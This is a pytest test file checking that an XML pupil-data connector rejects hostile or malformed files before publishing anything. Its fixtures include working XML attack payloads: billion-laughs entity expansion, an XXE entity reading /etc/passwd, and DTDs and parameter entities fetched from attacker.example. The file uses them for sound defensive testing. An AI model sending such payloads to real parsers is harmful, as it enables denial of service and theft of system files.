"""Hostile or broken XML is refused whole, before anything is published."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from connectors.aaf import FileRejected, ScanConfig, emit, events, scan, scan_many
from connectors.aaf.prolog import check_docinfo
from connectors.aaf.xmlwrite import request_xml
from schemas.feed import Category, FeedEvent, SnapshotCompleted

NAME = "ENT_AC-TEST_Complet_20251001_Eleve_0000.xml"
REQUEST = request_xml(
    "add",
    Category.PUPILS,
    "1",
    {
        "ENTPersonJointure": ["1"],
        "ENTPersonNom": ["MARTIN"],
        "ENTPersonPrenom": ["Léa"],
    },
)
GOOD = f'<?xml version="1.0" encoding="UTF-8"?>\n<ficAlimMENESR>\n{REQUEST}</ficAlimMENESR>\n'

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE ficAlimMENESR [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ficAlimMENESR>&lol9;</ficAlimMENESR>
"""
XXE = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE ficAlimMENESR [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + GOOD.split("\n", 1)[1].replace("<id>1</id>", "<id>&xxe;</id>")
)
EXTERNAL_DTD = '<?xml version="1.0"?>\n<!DOCTYPE ficAlimMENESR SYSTEM "evil.dtd">\n<ficAlimMENESR/>'
NETWORK_DTD = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE ficAlimMENESR PUBLIC "-//X//Y" "http://attacker.example/aaf.dtd">\n'
    + GOOD.split("\n", 1)[1]
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'
    "\n<ficAlimMENESR/>"
)
AAF_DOCTYPE = GOOD.replace(
    "<ficAlimMENESR>", '<!DOCTYPE ficAlimMENESR SYSTEM "ficAlimMENESR.dtd">\n<ficAlimMENESR>', 1
)


def put(tmp_path: Path, content: str | bytes, name: str = NAME) -> Path:
    path = tmp_path / name
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (BILLION_LAUGHS, "DOCTYPE declarations are not accepted"),
        (XXE, "DOCTYPE declarations are not accepted"),
        (EXTERNAL_DTD, "DOCTYPE declarations are not accepted"),
        (NETWORK_DTD, "DOCTYPE declarations are not accepted"),
        (PARAMETER_ENTITY, "DOCTYPE declarations are not accepted"),
        ('<?xml version="1.0"?><!ENTITY x "y"><ficAlimMENESR/>', "markup declarations"),
        ("", "no root element"),
        ("hello, world", "not an XML document"),
        ('{"json": true}', "not an XML document"),
        ('<?xml version="1.0"?>\n<html><body/></html>', "wrong root element <html>"),
        (GOOD[: len(GOOD) // 2], "not well-formed XML"),
        (GOOD.replace("</ficAlimMENESR>", ""), "not well-formed XML"),
        (GOOD.replace("<value>MARTIN</value>", "<value>MARTIN &bogus;</value>"), "not well-formed"),
        (GOOD.replace('encoding="UTF-8"', 'encoding="Shift_JIS"'), "unsupported encoding"),
        (GOOD.replace("<value>MARTIN</value>", "<value><b>MARTIN</b></value>"), "nesting deeper"),
        (GOOD.replace("<attributes>", "<attributes><foo/>"), "unexpected <foo> in <attributes>"),
        (GOOD.replace("</ficAlimMENESR>", "<junk/></ficAlimMENESR>"), "unexpected <junk>"),
        (
            GOOD.replace("<ficAlimMENESR>", "<ficAlimMENESR><wrap>").replace(
                "</ficAlimMENESR>", "</wrap></ficAlimMENESR>"
            ),
            "misplaced <addRequest>",
        ),
        (GOOD.replace("<identifier><id>1</id></identifier>", ""), "without <identifier>"),
        (GOOD.replace('name="ENTPersonNom"', ""), "without a name"),
        (
            GOOD.replace(
                "<value>Eleve</value></attr>",
                '<value>Eleve</value></attr><attr name="x"><value>1</value></attr>',
            ),
            "one category attribute",
        ),
    ],
)
def test_hostile_or_broken_files_are_refused(tmp_path: Path, content: str, reason: str) -> None:
    path = put(tmp_path, content)
    with pytest.raises(FileRejected, match=reason) as caught:
        scan(path)
    assert str(caught.value).startswith(f"{NAME}: ")
    assert "\n" not in str(caught.value)


def test_refusal_message_never_quotes_content(tmp_path: Path) -> None:
    # Invalid UTF-8 inside a name: libxml2 would quote the bytes; the message must not.
    bad = GOOD.encode().replace(b"MARTIN", b"MART\xe9N")
    with pytest.raises(FileRejected) as caught:
        scan(put(tmp_path, bad))
    assert "MART" not in str(caught.value) and "0xE9" not in str(caught.value)


def test_utf16_is_refused(tmp_path: Path) -> None:
    with pytest.raises(FileRejected, match="unsupported encoding"):
        scan(put(tmp_path, GOOD.replace("UTF-8", "UTF-16").encode("utf-16")))


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE ficAlimMENESR SYSTEM "ficAlimMENESR.dtd">',
        "<!DOCTYPE ficAlimMENESR SYSTEM 'ficAlimMENESR.dtd'>",
        '<!DOCTYPE  ficAlimMENESR\n  SYSTEM\t"ficAlimMENESR.dtd" >',
        '<!-- versionAF -->\n<!DOCTYPE ficAlimMENESR SYSTEM "ficAlimMENESR.dtd">',
    ],
)
def test_standard_aaf_doctype_accepted_by_default(tmp_path: Path, doctype: str) -> None:
    content = GOOD.replace("<ficAlimMENESR>", f"{doctype}\n<ficAlimMENESR>", 1)
    assert scan(put(tmp_path, content)).report.published == 1


@pytest.mark.parametrize(
    ("doctype", "why"),
    [
        ('<!DOCTYPE ficAlimMENESR SYSTEM "ficAlimMENESR.dtd" []>', "internal subset"),
        (
            '<!DOCTYPE ficAlimMENESR SYSTEM "ficAlimMENESR.dtd" [<!ENTITY e "x">]>',
            "internal subset",
        ),
        ('<!DOCTYPE ficAlimMENESR SYSTEM "other.dtd">', "only <!DOCTYPE ficAlimMENESR"),
        ("<!DOCTYPE ficAlimMENESR SYSTEM \"ficAlimMENESR.dtd'>", "only <!DOCTYPE ficAlimMENESR"),
        ('<!DOCTYPE ficAlim SYSTEM "ficAlimMENESR.dtd">', "only <!DOCTYPE ficAlimMENESR"),
        (
            '<!DOCTYPE ficAlimMENESR PUBLIC "-//MEN//AAF" "ficAlimMENESR.dtd">',
            "only <!DOCTYPE ficAlimMENESR",
        ),
        (
            '<!DOCTYPE ficAlimMENESR SYSTEM "http://example.org/ficAlimMENESR.dtd">',
            "only <!DOCTYPE ficAlimMENESR",
        ),
        (
            '<!DOCTYPE ficAlimMENESR SYSTEM "ficAlimMENESR.dtd">'
            '<!DOCTYPE ficAlimMENESR SYSTEM "ficAlimMENESR.dtd">',
            "a second DOCTYPE",
        ),
    ],
)
def test_other_doctypes_refused_with_their_reason(tmp_path: Path, doctype: str, why: str) -> None:
    content = GOOD.replace("<ficAlimMENESR>", f"{doctype}\n<ficAlimMENESR>", 1)
    with pytest.raises(FileRejected, match="DOCTYPE declarations are not accepted") as caught:
        scan(put(tmp_path, content))
    assert why in caught.value.reason


def test_refuse_doctype_setting_refuses_the_standard_one(tmp_path: Path) -> None:
    path = put(tmp_path, AAF_DOCTYPE)
    # the deprecated option does nothing: it cannot override the refusal
    config = ScanConfig(refuse_doctype=True, allow_aaf_doctype=True)
    with pytest.raises(FileRejected, match="DOCTYPE") as caught:
        scan(path, config=config)
    assert "--refuse-doctype" in caught.value.reason
    assert scan(put(tmp_path, GOOD), config=config).report.published == 1


@pytest.mark.parametrize(
    "document",
    [
        b'<!DOCTYPE ficAlimMENESR SYSTEM "ficAlimMENESR.dtd" [<!ELEMENT a ANY>]><ficAlimMENESR/>',
        b'<!DOCTYPE ficAlimMENESR PUBLIC "-//X" "ficAlimMENESR.dtd"><ficAlimMENESR/>',
        b'<!DOCTYPE other SYSTEM "ficAlimMENESR.dtd"><ficAlimMENESR/>',
    ],
)
def test_second_line_of_defence_on_the_parsed_document(document: bytes) -> None:
    """What lxml saw is checked again, should the byte-level check ever let one through."""
    parser = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True)
    docinfo = etree.fromstring(document, parser).getroottree().docinfo
    with pytest.raises(FileRejected, match="DOCTYPE"):
        check_docinfo(docinfo, ScanConfig(), Path("f.xml"))


def test_second_line_of_defence_accepts_the_standard_doctype() -> None:
    parser = etree.XMLParser(resolve_entities=False, load_dtd=False, no_network=True)
    document = AAF_DOCTYPE.split("\n", 1)[1].encode()
    docinfo = etree.fromstring(document, parser).getroottree().docinfo
    check_docinfo(docinfo, ScanConfig(), Path("f.xml"))
    with pytest.raises(FileRejected, match="--refuse-doctype"):
        check_docinfo(docinfo, ScanConfig(refuse_doctype=True), Path("f.xml"))


def test_comments_pis_and_bom_are_fine(tmp_path: Path) -> None:
    content = "\ufeff" + GOOD.replace(
        "<ficAlimMENESR>", "<!-- versionAF -->\n<?pi x?>\n<ficAlimMENESR>\n<!-- c -->"
    )
    assert scan(put(tmp_path, content)).report.published == 1


def test_truncated_file_refused_before_any_event(tmp_path: Path) -> None:
    """scan_many refuses the file: nothing of it reaches the list of scans to publish."""
    truncated = put(tmp_path, GOOD[:-30])
    other = put(tmp_path, GOOD, "ENT_AC-TEST_Complet_20251001_Eleve_0001.xml")
    result = scan_many([truncated, other])
    assert not result.report.ok
    assert [s.path for s in result.scans] == [other]
    refused = result.report.files[0]
    assert refused.refused and refused.refusal and "not well-formed" in refused.refusal


def test_truncated_after_scan_refused_before_completion(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = put(tmp_path, GOOD)
    file_scan = scan(path)
    path.write_text(GOOD[:-30])
    seen: list[FeedEvent] = []
    with pytest.raises(FileRejected, match="changed since it was scanned"):
        seen.extend(events(file_scan))
    assert seen == []
    # Even if the bytes change between the check and the read, the snapshot never completes.
    monkeypatch.setattr(emit, "_verify", lambda scan: None)
    with pytest.raises(FileRejected):
        seen.extend(events(file_scan))
    assert not any(isinstance(e, SnapshotCompleted) for e in seen)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(FileRejected, match="cannot read file"):
        scan(tmp_path / NAME)
